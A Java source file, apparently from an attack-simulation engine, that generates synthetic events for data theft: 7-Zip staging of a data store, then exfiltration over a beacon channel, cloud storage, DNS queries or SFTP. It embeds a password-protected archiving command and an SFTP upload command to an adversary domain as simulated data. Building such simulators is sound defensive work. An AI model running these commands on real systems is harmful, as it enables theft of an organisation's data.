package org.sala.engine.storyline.technique;

import static org.sala.engine.scenario.TechniqueCatalogue.Kind.DOMAIN;
import static org.sala.engine.scenario.TechniqueCatalogue.Kind.HOST;
import static org.sala.engine.scenario.TechniqueCatalogue.Kind.NUMBER;
import static org.sala.engine.scenario.TechniqueCatalogue.Kind.TEXT;

import java.util.List;
import org.jspecify.annotations.Nullable;
import org.sala.engine.event.Content;
import org.sala.engine.event.Event;
import org.sala.engine.event.Exchange;
import org.sala.engine.event.Header;
import org.sala.engine.storyline.Actor;
import org.sala.engine.storyline.Attempt;
import org.sala.engine.storyline.Control;
import org.sala.engine.storyline.Scene;
import org.sala.engine.storyline.Technique;
import org.sala.engine.storyline.Wire;
import org.sala.engine.time.Ticks;
import org.sala.engine.world.Account;
import org.sala.engine.world.Adversary;
import org.sala.engine.world.Manner;
import org.sala.engine.world.Organisation;

/// Records are packed (T1560.001) and carried off: over the beacon's channel (T1041), to a storage service
/// (T1567.002), inside questions to the resolver (T1048.003), or over SSH at night (T1048.002).
final class Theft {

    private static final long RECORD = 2_150;

    private Theft() {}

    static List<Technique> all() {
        return List.of(
                new Pack().asks("host", HOST).mayAsk("store", TEXT).mayAsk("records", NUMBER),
                carry("T1041"),
                carry("T1567.002"),
                carry("T1048.003"),
                carry("T1048.002"));
    }

    private static Technique carry(String id) {
        return new Carry(id)
                .asks("host", HOST)
                .mayAsk("domain", DOMAIN)
                .mayAsk("store", TEXT)
                .mayAsk("records", NUMBER);
    }

    private static Organisation.DataStore store(Attempt attempt) {
        List<Organisation.DataStore> stores = attempt.setting().organisation().assets().stores();
        String wanted = attempt.text("store", stores.getFirst().id());
        for (Organisation.DataStore store : stores) {
            if (store.id().equals(wanted)) {
                return store;
            }
        }
        return stores.getFirst();
    }

    private static final class Pack extends Base {
        Pack() {
            super("T1560.001");
        }

        private static String path(Attempt attempt) {
            long key = Math.floorMod(attempt.key("archive name"), 1_679_616L) + 1_679_616L;
            return "C:\\ProgramData\\" + Long.toString(key, 36) + ".7z";
        }

        private static Content archive(Attempt attempt) {
            Organisation.DataStore store = store(attempt);
            long key = attempt.setting().key("archive", store.id());
            long size = records(attempt) * RECORD / 6;
            return new Content.Archive(
                    key,
                    size,
                    "7z",
                    List.of(
                            new Content.Entry(
                                    store.id() + ".csv",
                                    new Content.Noise(key + 1, Math.max(1, size - 400)))));
        }

        static long records(Attempt attempt) {
            return attempt.number("records", Math.max(1, store(attempt).records() / 3));
        }

        @Override
        public void play(Attempt attempt, Scene scene) {
            int host = host(attempt);
            Actor hands = attempt.hands(scene.from(host), host);
            Organisation.DataStore store = store(attempt);
            if (store.host() != host && attempt.world().reaches(host, store.host(), attempt.at())) {
                Account self = requester(attempt, hands);
                Wire wire = new Wire(scene);
                long logon = wire.logon(hands, store.host(), self, Event.LogonType.NETWORK);
                wire.smb(
                        hands.showing(self.id()),
                        store.host(),
                        "Data",
                        List.of(
                                new Exchange.SmbOperation("list", store.path(), 8_000),
                                new Exchange.SmbOperation(
                                        "read",
                                        store.path() + "\\" + store.id() + ".csv",
                                        records(attempt) * RECORD)));
                scene.minutes(2, 6);
                wire.logoff(store.host(), self, logon, Event.LogonType.NETWORK);
            }
            Event.Program packer =
                    new Event.Program(
                            "C:\\ProgramData\\7za.exe",
                            new Content.Stub(Manner.PACKER_KEY, 812_032, Manner.PACKER, "23.01"));
            scene.create(hands, packer.path(), packer.content());
            scene.seconds(3, 20);
            long process =
                    scene.start(
                            hands,
                            packer,
                            "7za.exe a -t7z -mhe=on -p******** "
                                    + path(attempt)
                                    + " \""
                                    + store.path()
                                    + "\\*\"",
                            scene.key("process"));
            scene.minutes(3, 9);
            scene.create(hands.below(process), path(attempt), archive(attempt));
            scene.end(hands, process);
        }

        @Override
        public void settle(Attempt attempt, long until) {
            Organisation.DataStore store = store(attempt);
            leave(attempt, host(attempt), path(attempt), archive(attempt), until);
            attempt.adversary()
                    .staged()
                    .put(
                            store.id(),
                            new Adversary.Staged(
                                    store.id(),
                                    records(attempt),
                                    host(attempt),
                                    path(attempt),
                                    archive(attempt).size()));
        }
    }

    private static final class Carry extends Base {
        Carry(String id) {
            super(id);
        }

        private static Adversary.@Nullable Staged staged(Attempt attempt) {
            if (attempt.has("store")) {
                return attempt.adversary().staged().get(store(attempt).id());
            }
            for (Adversary.Staged any : attempt.adversary().staged().values()) {
                return any;
            }
            return null;
        }

        private String domain(Attempt attempt) {
            Adversary.Channel channel = attempt.adversary().channel(host(attempt));
            if (id().equals("T1041")) {
                for (Adversary.Channel other : attempt.adversary().channels().values()) {
                    channel = channel == null ? other : channel;
                }
                return channel == null ? attempt.text("domain", "") : channel.domain();
            }
            return attempt.text("domain", "");
        }

        @Override
        public Readiness readiness(Attempt attempt) {
            Readiness ready = commanded(attempt, host(attempt));
            if (ready != Readiness.READY) {
                return ready;
            }
            if (staged(attempt) == null) {
                return Readiness.BROKEN;
            }
            Control control = Control.of(attempt.setting(), attempt.world());
            String domain = domain(attempt);
            boolean through =
                    id().equals("T1048.003")
                            ? !attempt.world().blocks().sinkholes(domain)
                                    && !attempt.world().blocks().internet()
                            : control.passes(host(attempt), domain, attempt.at());
            return through ? Readiness.READY : Readiness.LATER;
        }

        @Override
        public void play(Attempt attempt, Scene scene) {
            int host = host(attempt);
            Actor hands = attempt.hands(scene.from(host), host);
            Adversary.@Nullable Staged staged = staged(attempt);
            long bytes = staged == null ? 400_000 : staged.bytes();
            switch (id()) {
                case "T1048.003" -> questions(attempt, scene, hands, bytes);
                case "T1048.002" -> shell(attempt, scene, hands, bytes);
                default -> upload(attempt, scene, hands, bytes);
            }
        }

        private void upload(Attempt attempt, Scene scene, Actor hands, long bytes) {
            Wire wire = new Wire(scene);
            boolean storage = id().equals("T1567.002");
            int parts = (int) scene.random().between(6, 14);
            String agent = scene.agent(Math.max(0, attempt.setting().host(hands.host()).owner()));
            for (int i = 0; i < parts; i++) {
                wire.tls(
                        hands,
                        domain(attempt),
                        bytes / parts + scene.random().below(9_000),
                        0,
                        agent,
                        i == 0);
                if (storage) {
                    scene.seconds(4, 40);
                } else {
                    scene.minutes(1, 5);
                }
            }
        }

        /// The resolver is asked for names that carry the bytes: labels of at most 60 characters.
        private void questions(Attempt attempt, Scene scene, Actor hands, long bytes) {
            Wire wire = new Wire(scene);
            int count = (int) Math.clamp(bytes / 1_200, 300L, 900L);
            for (int i = 0; i < count; i++) {
                String name = Manner.carrying(scene.random()) + domain(attempt);
                wire.dns(hands, name, "TXT", "ok", 1);
                scene.pause(Ticks.SECOND, 5 * Ticks.SECOND);
            }
        }

        private void shell(Attempt attempt, Scene scene, Actor hands, long bytes) {
            Actor self =
                    hands.account() < 0
                            ? new Actor(
                                    hands.host(),
                                    Header.MACHINE,
                                    0,
                                    hands.parent(),
                                    hands.integrity())
                            : hands;
            long process =
                    scene.start(
                            self,
                            "C:\\Windows\\System32\\OpenSSH\\sftp.exe",
                            "sftp -b C:\\ProgramData\\job.txt " + "sync@" + domain(attempt));
            new Wire(scene)
                    .direct(
                            self.below(process),
                            domain(attempt),
                            22,
                            bytes,
                            61_000,
                            new Exchange.Ssh("sync", true));
            scene.minutes(6, 15);
            scene.end(self, process);
        }

        @Override
        public void settle(Attempt attempt, long until) {
            Adversary.@Nullable Staged staged = staged(attempt);
            if (staged != null) {
                attempt.world().ledger().leak(staged.store(), staged.records(), until);
            }
        }
    }
}
